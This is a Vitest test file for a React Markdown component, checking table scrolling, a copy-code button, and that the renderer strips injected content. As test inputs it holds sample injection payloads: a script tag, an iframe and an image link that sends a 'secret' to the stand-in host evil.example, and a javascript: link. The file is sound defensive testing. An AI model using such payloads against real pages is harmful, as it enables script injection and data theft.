import { FluentProvider, webLightTheme } from '@fluentui/react-components';
import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it } from 'vitest';

import { Markdown } from './markdown';

function show(text: string) {
  return render(
    <FluentProvider theme={webLightTheme}>
      <Markdown text={text} />
    </FluentProvider>,
  );
}

describe('Markdown', () => {
  it('shows a table that scrolls inside itself', () => {
    show('| Item | Until |\n| --- | --- |\n| SAP | 2027 |');
    expect(screen.getByRole('region', { name: 'Table' })).toContainElement(
      screen.getByRole('cell', { name: 'SAP' }),
    );
  });

  it('copies code as it was written', async () => {
    const user = userEvent.setup();
    show('```json\n{"a": 1}\n```');
    await user.click(screen.getByRole('button', { name: 'Copy code' }));
    expect(await navigator.clipboard.readText()).toBe('{"a": 1}');
  });

  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a picture', '![stolen](https://evil.example/?secret)'],
  ])('lets no %s in', (_, text) => {
    const { container } = show(text);
    expect(container.querySelector('script, iframe, img')).toBeNull();
  });

  it('follows no script in a link', () => {
    show('[click](javascript:alert(1))');
    expect(screen.getByText('click')).not.toHaveAttribute(
      'href',
      expect.stringContaining('script'),
    );
  });
});
